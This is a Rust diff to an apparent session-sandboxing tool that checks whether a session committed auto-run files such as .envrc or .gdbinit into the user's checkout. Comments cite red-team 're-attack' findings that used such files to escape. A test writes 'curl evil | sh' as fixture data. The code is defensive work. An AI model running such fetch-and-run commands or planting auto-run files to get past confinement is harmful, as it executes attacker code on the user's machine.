@@ -37,7 +37,7 @@ pub struct IndexSnapshot {
     launched: i128,
     /// Where the user's tools run a project file by themselves, and its names
     /// ([`allow_list::trusted_project_files`](super::allow_list::trusted_project_files)).
-    trusted: Vec<(PathBuf, Vec<&'static str>)>,
+    trusted: Vec<(PathBuf, allow_list::Names)>,
 }
 
 struct Recorded {
@@ -143,7 +143,7 @@ impl IndexSnapshot {
     /// The snapshot, looking at the exit also for `trusted`'s files (a `.envrc` where direnv
     /// loads it unasked) in the commits the session made: one not there at launch is not a
     /// read-only bind (the thirty-sixth re-attack's H18 committed one the user's checkout writes).
-    pub fn with_trusted(mut self, trusted: Vec<(PathBuf, Vec<&'static str>)>) -> IndexSnapshot {
+    pub fn with_trusted(mut self, trusted: Vec<(PathBuf, allow_list::Names)>) -> IndexSnapshot {
         self.trusted = trusted;
         self
     }
@@ -209,7 +209,7 @@ impl IndexSnapshot {
             // (the thirty-sixth re-attack found eleven ways to name one), and what its tree holds
             // of the protected files is compared with them.
             // The trusted scopes in this worktree, relative to it (one holding the worktree: all of it).
-            let trusted: Vec<(&Path, &[&str])> = self
+            let trusted: Vec<(&Path, &[std::borrow::Cow<str>])> = self
                 .trusted
                 .iter()
                 .filter_map(|(scope, names)| match scope.strip_prefix(&recorded.worktree) {
@@ -236,8 +236,7 @@ impl IndexSnapshot {
                             }
                             for (relative, names) in &trusted {
                                 let found = objects.new_blobs_at(&tree, relative, |path, object_name| {
-                                    let name = path.file_name().unwrap_or_default().to_string_lossy();
-                                    if names.iter().any(|wanted| allow_list::name_matches(&name, wanted)) {
+                                    if names.iter().any(|wanted| allow_list::is_named(path, wanted)) {
                                         staged.push((recorded.worktree.join(path), object_name.to_vec()));
                                     }
                                 });
@@ -929,9 +928,10 @@ mod tests {
         let Some((_temp, repo)) = repository() else { return };
         std::thread::sleep(std::time::Duration::from_millis(120));
         let worktrees = [(repo.join(".git"), repo.clone())];
-        let whole =
-            IndexSnapshot::take(&worktrees, &[]).with_trusted(vec![(repo.clone(), vec![".envrc", "*.gdbinit"])]);
-        let below = IndexSnapshot::take(&worktrees, &[]).with_trusted(vec![(repo.join("deep"), vec![".envrc"])]);
+        let whole = IndexSnapshot::take(&worktrees, &[])
+            .with_trusted(vec![(repo.clone(), allow_list::static_names(&[".envrc", "*.gdbinit"]))]);
+        let below = IndexSnapshot::take(&worktrees, &[])
+            .with_trusted(vec![(repo.join("deep"), allow_list::static_names(&[".envrc"]))]);
         std::fs::write(repo.join("evil"), "curl evil | sh\n").unwrap();
         let id = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
         std::fs::remove_file(repo.join("evil")).unwrap();
